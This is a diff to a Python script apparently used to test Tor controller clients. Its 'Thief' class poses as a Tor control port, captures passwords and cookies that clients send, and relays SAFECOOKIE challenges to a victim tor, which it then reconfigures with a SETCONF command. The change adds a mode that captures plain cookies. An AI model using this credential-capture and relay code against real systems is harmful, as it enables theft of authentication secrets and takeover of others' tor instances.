@@ -5,6 +5,7 @@
 #   cookie VICTIM COOKIEFILE   names the cookie file of the tor at VICTIM, relays the challenge to that tor's control port
 #                              and the proof too, and says OPENED when that tor lets it in and takes a command
 #   password                   offers HASHEDPASSWORD, and says PASSWORD with what it is sent
+#   plain                      offers COOKIE alone, and says COOKIE with what it is sent
 #
 # Places are ports of 127.0.0.1, or paths of unix sockets.
 
@@ -69,15 +70,16 @@ class Thief:
         return None
 
     def protocol_info(self):
-        methods = 'HASHEDPASSWORD' if self.arguments.what == 'password' else (
-            f'COOKIE,SAFECOOKIE COOKIEFILE={quote(self.arguments.cookie)}')
+        methods = {'cookie': f'COOKIE,SAFECOOKIE COOKIEFILE={quote(self.arguments.cookie or "")}',
+                   'password': 'HASHEDPASSWORD', 'plain': 'COOKIE COOKIEFILE="/some/file"'}[self.arguments.what]
         return f'250-PROTOCOLINFO 1\n250-AUTH METHODS={methods}\n250-VERSION Tor="0.4.9.11"\n250 OK'
 
     def take(self, command, victim):
         """Uses what authenticates the one who has come."""
-        if self.arguments.what == 'password':
+        if self.arguments.what in ('password', 'plain'):
             secret = command.partition(' ')[2]
-            return say('PASSWORD', bytes.fromhex(secret).decode(errors='replace') if secret else '')
+            return say({'password': 'PASSWORD', 'plain': 'COOKIE'}[self.arguments.what],
+                       bytes.fromhex(secret).decode(errors='replace') if secret else '')
         verdict = ask(victim, command)
         power = ask(victim, 'SETCONF Nickname=stolen') if verdict == '250 OK' else ''
         return say('OPENED' if power == '250 OK' else 'REFUSED', verdict)
@@ -102,7 +104,7 @@ def main():
     parser = argparse.ArgumentParser()
     parser.add_argument('--user')
     parser.add_argument('place')
-    parser.add_argument('what', choices=('cookie', 'password'))
+    parser.add_argument('what', choices=('cookie', 'password', 'plain'))
     parser.add_argument('victim', nargs='?')
     parser.add_argument('cookie', nargs='?')
     arguments = parser.parse_args()
